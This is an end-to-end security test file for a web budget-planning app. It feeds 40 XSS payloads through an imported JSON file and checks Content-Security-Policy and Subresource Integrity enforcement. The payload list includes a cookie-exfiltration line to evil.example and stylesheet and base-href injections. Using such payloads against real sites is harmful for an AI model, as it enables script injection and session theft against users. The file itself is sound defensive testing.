// End-to-end security tests (reliability.md X1, X3, X5): a file whose every text field carries one of 40 XSS
// payloads is imported and every page walked — no script runs, no handler fires, no dialog, no element or request
// comes from the data, and the text is shown literally; the Content-Security-Policy of dist/index.html holds the
// hash of Trunk's start script and a full walk of every page raises 0 violations; negative controls prove the
// policy and Subresource Integrity are enforced (no 'wasm-unsafe-eval', a changed start script, a changed
// wasm-bindgen script: the app does not boot); every script and preload in dist/index.html has `integrity`.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { cp, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { appReady, distDir } from './browser.mjs';
import { serveDir } from './serve.mjs';
import { useApp, assertNoProblems, axeViolations, noForeignRequestsTest } from './harness.mjs';

const app = useApp();

const PAYLOADS = [
  '<img src=x onerror=window.__x=1>',
  '"><svg onload=window.__x=2>',
  '</script><script>window.__x=3</script>',
  'javascript:window.__x=4',
  '<iframe src="javascript:window.parent.__x=5">',
  "'><img src=x onerror=window.__x=6>",
  '<body onload=window.__x=7>',
  '<svg><script>window.__x=8</script></svg>',
  '<a href="javascript:window.__x=9">klick</a>',
  '<details open ontoggle=window.__x=10>',
  '<input autofocus onfocus=window.__x=11>',
  '<video><source onerror=window.__x=12></video>',
  '<audio src=x onerror=window.__x=13>',
  '<object data="javascript:window.__x=14">',
  '<embed src="javascript:window.__x=15">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__x=16>',
  "<style>@import 'http://evil.example/x.css';</style>",
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:window.__x=19">',
  "{{constructor.constructor('window.__x=20')()}}",
  '${window.__x=21}',
  '<marquee onstart=window.__x=22>',
  '<div style="background:url(javascript:window.__x=23)">',
  '<base href="http://evil.example/">',
  '<form action=javascript:window.__x=25><button>x</button></form>',
  '<isindex action=javascript:window.__x=26 type=image>',
  '"onmouseover="window.__x=27',
  "' onfocus='window.__x=28' autofocus '",
  '<scr<script>ipt>window.__x=29</scr</script>ipt>',
  '&lt;img src=x onerror=window.__x=30&gt;',
  `<img src="x" onerror="fetch('http://evil.example/'+document.cookie)">`,
  'data:text/html,<script>window.__x=32</script>',
  '<svg><animate onbegin=window.__x=33 attributeName=x dur=1s>',
  '<template><img src=x onerror=window.__x=34></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.__x=35>">',
  '<textarea><img src=x onerror=window.__x=36></textarea>',
  '<x contenteditable onblur=window.__x=37>lose focus!</x>',
  'vbscript:window.__x=38',
  '<img src=x onerror=alert(39)>',
  '<svg/onload=confirm(40)>',
];

/** Keys whose values are free text in an export (the rest are ids, amounts, dates and enums). */
const TEXT_KEYS = new Set(['name', 'note', 'notes', 'description', 'origin', 'owner_unit', 'target_group', 'source']);
const TEXT_LISTS = new Set(['leaders', 'external_partners']);

/** The export with every text field replaced by a payload (in turn) and a number that keeps names unique. */
function withPayloads(file) {
  let next = 0;
  const payload = () => `${PAYLOADS[next % PAYLOADS.length]} #${next++}`;
  const walk = (value) => {
    if (Array.isArray(value)) { value.forEach(walk); return; }
    if (value === null || typeof value !== 'object') return;
    for (const [key, field] of Object.entries(value)) {
      if (TEXT_KEYS.has(key) && typeof field === 'string') value[key] = payload();
      else if (TEXT_LISTS.has(key) && Array.isArray(field)) value[key] = field.map(payload);
      else walk(field);
    }
  };
  const copy = structuredClone(file);
  walk(copy.data);
  return { text: `${JSON.stringify(copy, null, 2)}\n`, fields: next };
}

/** What the data could have put into the page: elements that load or run something, `on…` attributes. */
const domSurface = () => ({
  scripts: document.querySelectorAll('script').length,
  loaders: document.querySelectorAll('img, iframe, object, embed, video, audio, source, base, meta, link, style, form, textarea, template, noscript, marquee, details, math, isindex, x, svg script, svg animate, a[href^="javascript"]').length,
  handlers: [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
  x: typeof window.__x,
});

const PAGES = ['#/oversikt', '#/budget', '#/katalog', '#/jamfor', '#/installningar', '#/dela'];

/** Records `securitypolicyviolation` events in `window.__csp` from the first script on. */
const recordViolations = () => {
  window.__csp = [];
  document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
};

test('40 XSS payloads in every text field of an imported file: inert, shown as text, no request', async () => {
  const { page, problems, context } = await app.newSession();
  await page.addInitScript(recordViolations);
  const dialogs = [];
  page.on('dialog', async (dialog) => { dialogs.push(dialog.message()); await dialog.dismiss(); });
  await page.goto(app.url() + '#/dela');
  await appReady(page);
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Exportera hela förbundet (JSON)' }).click()]);
  const { text, fields } = withPayloads(JSON.parse(await readFile(await download.path(), 'utf8')));
  assert.ok(fields >= 2 * PAYLOADS.length, `every payload in at least two fields (${fields} fields)`);
  // The same pages before the import: the imported förbund has the example's shape, only its texts differ.
  const before = {};
  for (const hash of PAGES) {
    await page.goto(app.url() + hash);
    await appReady(page);
    before[hash] = await page.evaluate(domSurface);
  }
  const requests = [];
  // Chromium asks for the site's own icon again on navigation; anything else would come from the data.
  page.on('request', (request) => { if (!/\/favicon-[0-9a-f]+\.svg$/.test(request.url())) requests.push(request.url()); });
  await page.getByLabel('Välj fil att importera').setInputFiles({ name: 'xss.json', mimeType: 'application/json', buffer: Buffer.from(text) });
  const preview = page.getByTestId('preview');
  await preview.getByTestId('added').waitFor();
  assert.deepEqual(await axeViolations(page), [], 'axe on a preview full of markup');
  await preview.getByRole('button', { name: 'Importera' }).click();
  await page.getByRole('status').filter({ hasText: 'Importerat: 1 tillagda.' }).waitFor();
  const shown = new Set();
  for (const hash of [...PAGES, ...PAGES]) {
    await page.goto(app.url() + hash);
    await appReady(page);
    await page.waitForTimeout(50);
    const body = await page.evaluate(() => document.body.textContent);
    PAYLOADS.filter((p) => body.includes(p)).forEach((p) => shown.add(p));
    assert.deepEqual(await page.evaluate(domSurface), before[hash], `${hash}: nothing from the data in the DOM`);
  }
  assert.equal(shown.size, PAYLOADS.length, `shown literally: ${shown.size}/40; missing ${PAYLOADS.filter((p) => !shown.has(p)).join(' | ')}`);
  assert.equal(await page.evaluate(() => window.__x), undefined, 'no payload ran');
  assert.deepEqual(dialogs, [], 'no dialog');
  assert.deepEqual(requests, [], 'no request after the import');
  assert.deepEqual(await page.evaluate(() => window.__csp), [], 'no CSP violation');
  assertNoProblems(problems);
  await context.close();
});

/** The policy of a built index.html and its inline scripts. */
function policyOf(html) {
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
  return { policy: meta?.[1], metaAt: meta?.index ?? -1, scripts };
}

test('dist/index.html: the CSP meta comes first, hashes the import map and the start script, allows nothing else inline; SRI on every asset', async () => {
  const html = await readFile(join(distDir, 'index.html'), 'utf8');
  const { policy, metaAt, scripts } = policyOf(html);
  assert.ok(policy, 'a CSP meta');
  const directives = Object.fromEntries(policy.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values.join(' ')]));
  const inline = scripts.filter(([, attributes]) => !/\bsrc=/.test(attributes));
  assert.deepEqual(inline.map(([, attributes]) => attributes.trim()), ['type=importmap', 'type=module'], 'the import map (.ci/split.mjs) and Trunk\'s start script');
  const integrity = JSON.parse(inline[0][2]).integrity;
  assert.equal(Object.keys(integrity).length, 2, 'the import map gives the integrity of the main script and the split loader');
  assert.ok(Object.values(integrity).every((v) => /^sha384-/.test(v)));
  const hashes = inline.map(([, , body]) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`).join(' ');
  assert.deepEqual(directives, {
    'default-src': "'none'",
    'script-src': `'self' 'wasm-unsafe-eval' ${hashes}`,
    'style-src': "'self'",
    'img-src': "'self' data:",
    'connect-src': "'self'",
    'font-src': "'self'",
    'manifest-src': "'self'",
    'base-uri': "'none'",
    'form-action': "'none'",
    'object-src': "'none'",
  });
  assert.ok(scripts.every((s) => s.index > metaAt), 'the policy precedes every script');
  const assets = [...html.matchAll(/<(script|link)\b[^>]*>/g)].map(([tag]) => tag)
    .filter((tag) => /<script\b[^>]*\bsrc=/.test(tag) || /\brel=["']?(preload|modulepreload|stylesheet)\b/.test(tag));
  assert.ok(assets.length >= 3, `${assets.length} assets`);
  assert.deepEqual(assets.filter((tag) => !/\bintegrity=["']?sha384-/.test(tag)), [], 'every asset has integrity');
  assert.doesNotMatch(html, /data-integrity|'unsafe-inline'|'unsafe-eval'/);
});

test('a full walk of every page, in both languages, with edits, export and an import preview: 0 CSP violations', async () => {
  const { page, problems, context } = await app.newSession();
  await page.addInitScript(recordViolations);
  await page.goto(app.url() + '#/budget');
  await appReady(page);
  const rent = page.getByRole('textbox', { name: 'Belopp för Lokalkostnader 2023' });
  await rent.fill('61 000');
  await rent.press('Enter');
  await page.getByTestId('status').filter({ hasText: 'Sparat lokalt' }).waitFor();
  for (const hash of PAGES) {
    await page.goto(app.url() + hash);
    await appReady(page);
  }
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Exportera hela förbundet (JSON)' }).click()]);
  await page.getByLabel('Välj fil att importera').setInputFiles(await download.path());
  await page.getByTestId('preview').waitFor();
  await page.getByRole('button', { name: 'English' }).click();
  for (const hash of PAGES) {
    await page.goto(app.url() + hash);
    await appReady(page);
  }
  await page.reload();
  await appReady(page);
  assert.deepEqual(await page.evaluate(() => window.__csp), []);
  assertNoProblems(problems);
  await context.close();
});

/** A copy of dist with `change(files)` applied, served; resolves to its URL and a cleanup. */
async function changedDist(change) {
  const dir = await mkdtemp(join(tmpdir(), 'fp-dist-'));
  await cp(distDir, dir, { recursive: true });
  await change(dir);
  const server = await serveDir(dir);
  return { url: server.url, close: async () => { await server.close(); await rm(dir, { recursive: true }); } };
}

const editIndex = (edit) => async (dir) => {
  const file = join(dir, 'index.html');
  await writeFile(file, edit(await readFile(file, 'utf8')));
};

/** A change that appends `tail` to the one built file whose name matches `pattern`. */
const appendTo = (pattern, tail) => async (dir) => {
  const names = (await readdir(dir)).filter((f) => pattern.test(f));
  assert.equal(names.length, 1, `one file matches ${pattern}: ${names}`);
  const file = join(dir, names[0]);
  await writeFile(file, Buffer.concat([await readFile(file), Buffer.from(tail)]));
};

const CONTROLS = [
  ["without 'wasm-unsafe-eval' in the policy", editIndex((html) => html.replace(" 'wasm-unsafe-eval'", '')), /wasm|WebAssembly|Content Security Policy/i],
  ['with a start script that does not match its hash', editIndex((html) => html.replace(/(<script type=module>)/, '$1window.__changed=1;')), /Content Security Policy/i],
  ['with the wasm-bindgen script changed by a harmless comment', appendTo(/^finsam-planner-[0-9a-f]+\.js$/, '\n// changed\n'), /integrity/i],
  ["with the split pages' loader script changed by a harmless comment", appendTo(/-split\.js$/, '\n// changed\n'), /integrity/i],
  ['with bytes added to the main wasm', appendTo(/_bg\.wasm$/, '\0'), /integrity/i],
];

for (const [name, change, reason] of CONTROLS) {
  test(`negative control: the app does not boot ${name}`, async () => {
    const served = await changedDist(change);
    const { page, problems, context } = await app.newSession();
    try { // a failed check must not leave its server open (the suite would never end)
      await page.goto(served.url + '#/budget');
      await page.waitForTimeout(3000);
      assert.equal(await page.getByRole('main').count(), 0, 'the app did not mount');
      const errors = [...problems.consoleErrors, ...problems.pageErrors].join('\n');
      assert.match(errors, reason);
      assert.deepEqual(problems.foreignRequests, []);
    } finally {
      await context.close();
      await served.close();
    }
  });
}

test('a split page whose code was changed is refused: a message with "Försök igen", the budget still works', async () => {
  const served = await changedDist(appendTo(/^finsam-planner-split_catalogue-[0-9a-f]+\.wasm$/, '\0'));
  const { page, problems, context } = await app.newSession();
  try {
    await page.goto(served.url + '#/katalog');
    const failed = page.getByRole('alert').filter({ hasText: 'Sidan kunde inte laddas' });
    await failed.waitFor();
    assert.deepEqual(await axeViolations(page), []);
    await failed.getByRole('button', { name: 'Försök igen' }).click();
    await failed.waitFor();
    assert.match(problems.consoleErrors.join('\n'), /integrity/i);
    assert.deepEqual(problems.pageErrors, []);
    await page.goto(served.url + '#/budget');
    await page.getByRole('row', { name: /Utgående eget kapital/ }).first().waitFor();
    assert.deepEqual(problems.foreignRequests, []);
  } finally {
    await context.close();
    await served.close();
  }
});

noForeignRequestsTest(app, 6);
